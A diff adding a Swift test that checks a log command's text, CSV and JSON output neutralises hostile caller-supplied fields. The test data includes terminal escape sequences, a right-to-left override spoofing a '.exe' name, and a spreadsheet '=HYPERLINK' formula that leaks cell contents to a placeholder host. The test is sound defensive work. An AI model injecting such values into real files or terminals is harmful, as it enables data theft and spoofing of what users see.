@@ -111,6 +111,35 @@ struct LogCommandTests {
         #expect(String(decoding: csv, as: UTF8.self).unicodeScalars.filter { $0 == "\n" }.count == 3)
     }
 
+    /// Numbers and names as a caller could choose them.
+    private static let hostile = "\u{1B}]0;owned\u{7}\u{9B}2J\u{202E}gpj.exe"
+
+    @Test(
+        "neither a terminal nor a spreadsheet obeys a caller",
+        arguments: [[], ["--csv"], ["--json"], ["--call", "H1"], ["--call", "H1", "--json"]])
+    func hostileCaller(_ arguments: [String]) async throws {
+        var event = LoggedEvent(at: Self.start, kind: .newCall, callID: "H1")
+        (event.from, event.to, event.direction) = ("@SUM(A1)\(Self.hostile)", "+492111234567", .incoming)
+        event.users = ["=HYPERLINK(\"http://192.0.2.1/?\"&A1)\(Self.hostile)"]
+        event.fields = [.init("event", "newCall"), .init("user[]\(Self.hostile)", Self.hostile)]
+        event.way = Self.hostile
+        record(event)
+        #expect(await writer.flush(within: .seconds(60)))
+        let run = try RunningProgram(
+            [Announce.path, "log", "--state", "."] + arguments, in: folder.path, input: .nothing
+        ).wait()
+        #expect(run.status == 0 && run.text.contains("H1"), "\(run.errors)")
+        let steering = run.text.unicodeScalars.filter { $0.steersText && $0 != "\n" && $0 != "\r" }
+        #expect(steering.isEmpty, "\(run.text.debugDescription)")
+        if arguments == ["--csv"] {
+            #expect(
+                run.text.contains(",'@SUM") && run.text.contains(#","'=HYPERLINK(""http"#)
+                    && run.text.contains(",+492111234567,"))
+        }
+        // JSON says the same in other signs.
+        if arguments.last == "--json" { #expect(run.text.contains(#"\u202e"#) && run.text.contains(#"\u009b"#)) }
+    }
+
     @Test func oneCall() async throws {
         await fill()
         #expect(
